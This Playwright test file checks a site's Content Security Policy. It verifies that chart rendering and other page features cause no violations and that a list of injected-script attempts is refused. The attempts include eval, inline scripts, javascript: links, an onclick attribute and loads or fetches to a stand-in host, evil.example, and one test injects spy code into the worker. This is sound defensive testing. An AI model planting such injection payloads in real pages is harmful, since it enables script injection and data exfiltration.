/** Tests the site's policy in Chromium: the page never breaks it, and it stops what an attacker would do. */
import { libraries } from "../../src/store/chart-library.ts";
import { expect, test } from "../e2e/page.ts";

/** Lists every violation of the policy, with what was refused. */
const watchBreaches = () => {
  const breaches: string[] = [];
  Object.assign(window, { breaches });
  document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sample }) => {
    breaches.push([effectiveDirective, blockedURI, sample].join(" "));
  });
};

test("each library of charts draws under the policy", async ({ cv, page }) => {
  test.slow();
  // Charts load where they are in view, which is below the career.
  await page.setViewportSize({ width: 1280, height: 1200 });
  await page.addInitScript(watchBreaches);
  await cv.open();
  const charts = page.getByRole("region", { name: "Charts" });
  for (const library of libraries)
    await test.step(library, async () => {
      // By key, because what stands under a pointer moves with the results.
      await charts.getByRole("button", { name: /^Drawn with / }).press("Enter");
      await page.getByRole("menuitemradio", { name: new RegExp(`^${library}`, "i") }).press("Enter");
      await expect(charts.locator(`[data-library=${library}] svg`).first()).toBeVisible();
      await expect(charts.locator(`[data-library=${library}] svg`).nth(1)).toBeVisible();
      // A tooltip's elements are created when it is shown.
      for (const chart of await charts.getByRole("figure").all()) {
        const box = await chart.boundingBox();
        for (const share of [0.3, 0.5, 0.7]) {
          await page.mouse.move(
            (box?.x ?? 0) + (box?.width ?? 0) * share,
            (box?.y ?? 0) + (box?.height ?? 0) / 2,
          );
          await page.waitForTimeout(100);
        }
      }
      await cv.box.fill("language:python");
      await expect(async () => expect(await cv.total()).toBeLessThan(268)).toPass();
      expect(await page.evaluate("breaches")).toEqual([]);
      await cv.box.fill("");
      await cv.expectTotal(268);
    });
});

test("nothing else on the page breaks the policy: theme, menus, cards, popup, other pages", async ({
  cv,
  page,
}) => {
  await page.addInitScript(watchBreaches);
  await cv.open();
  await page.getByRole("button", { name: "Theme" }).click();
  await page.getByRole("menuitemradio", { name: "Dark" }).click();
  await cv.unfold();
  await cv.dropdown(/^Language/).click();
  await page.keyboard.press("Escape");
  await cv.cards.first().click();
  await cv.box.fill("(fix AND");
  await expect(cv.problems).toBeVisible();
  expect(await page.evaluate("breaches")).toEqual([]);
  await page.goto("/demo/colors");
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  expect(await page.evaluate("breaches")).toEqual([]);
});

/** What an injected script or element would try, and the directive that stops it. */
const attempts: [what: string, code: string, directive: string][] = [
  ["eval", "try { eval('1') } catch {}", "script-src"],
  ["a function made of text", "try { new Function('return 1')() } catch {}", "script-src"],
  ["a timer made of text", "setTimeout('window.hacked = 1')", "script-src"],
  [
    "an inline script",
    "document.head.append(Object.assign(document.createElement('script'), { textContent: 'window.hacked = 1' }))",
    "script-src-elem",
  ],
  [
    "an event handler's attribute",
    "const b = document.createElement('b'); b.setAttribute('onclick', 'window.hacked = 1'); document.body.append(b); b.click()",
    "script-src-attr",
  ],
  [
    "a javascript: link",
    "const a = document.createElement('a'); a.href = 'javascript:window.hacked = 1'; document.body.append(a); a.click()",
    "script-src-elem",
  ],
  [
    "a script from elsewhere",
    "document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }))",
    "script-src-elem",
  ],
  [
    "a style element",
    "document.head.append(Object.assign(document.createElement('style'), { textContent: 'body { color: red }' }))",
    "style-src-elem",
  ],
  ["a request elsewhere", "fetch('https://evil.example/').catch(() => {})", "connect-src"],
  ["an image from elsewhere", "new Image().src = 'https://evil.example/x.png'", "img-src"],
  [
    "a frame",
    "document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))",
    "frame-src",
  ],
  [
    "a worker made of text",
    "try { new Worker(URL.createObjectURL(new Blob(['1']))) } catch {}",
    "worker-src",
  ],
  [
    "another base for all links",
    "document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }))",
    "base-uri",
  ],
];

for (const hosted of ["with headers", "with the meta element alone"] as const) {
  test.describe(hosted, () => {
    // Each violation is logged on the console.
    test.use({ allowedErrors: /./ });
    test("each attempt is refused", async ({ page }) => {
      if (hosted === "with the meta element alone") {
        await page.route("**/", async (route) => {
          const response = await route.fetch();
          const { "content-security-policy": _, ...headers } = response.headers();
          await route.fulfill({ response, headers });
        });
      }
      await page.addInitScript(watchBreaches);
      await page.goto("/");
      for (const [what, code, directive] of attempts)
        await test.step(what, async () => {
          // Code that the test tool runs is exempt from the policy, but code that it schedules is not.
          await page.evaluate(`breaches.length = 0; void setTimeout(() => { ${code} })`);
          await expect.poll(() => page.evaluate<string>("breaches.join()")).toContain(directive);
          expect(await page.evaluate("window.hacked")).toBeUndefined();
        });
    });
  });
}

test("the worker is bound too: it neither evaluates nor calls elsewhere", async ({ page }) => {
  await page.route("**/assets/worker-*.js", async (route) => {
    const response = await route.fetch();
    const spy = `
      let evaluated = false;
      try { evaluated = (0, eval)("true"); } catch {}
      const report = (called) => new BroadcastChannel("spy").postMessage({ evaluated, called });
      fetch("https://evil.example/").then(() => report(true), () => report(false));`;
    await route.fulfill({ response, body: spy + (await response.text()) });
  });
  await page.addInitScript(() => {
    new BroadcastChannel("spy").onmessage = ({ data }) => Object.assign(window, { spied: data });
  });
  await page.goto("/");
  await expect.poll(() => page.evaluate("window.spied")).toEqual({ evaluated: false, called: false });
});

test("no other site may frame it", async ({ page, baseURL }) => {
  await page.route("https://elsewhere.example/", (route) =>
    route.fulfill({ contentType: "text/html", body: `<iframe src="${baseURL}/"></iframe>` }),
  );
  await page.goto("https://elsewhere.example/");
  await page.waitForTimeout(500);
  const [, frame] = page.frames();
  await expect
    .poll(() =>
      frame
        ?.locator("#root")
        .count()
        .catch(() => 0),
    )
    .toBe(0);
});
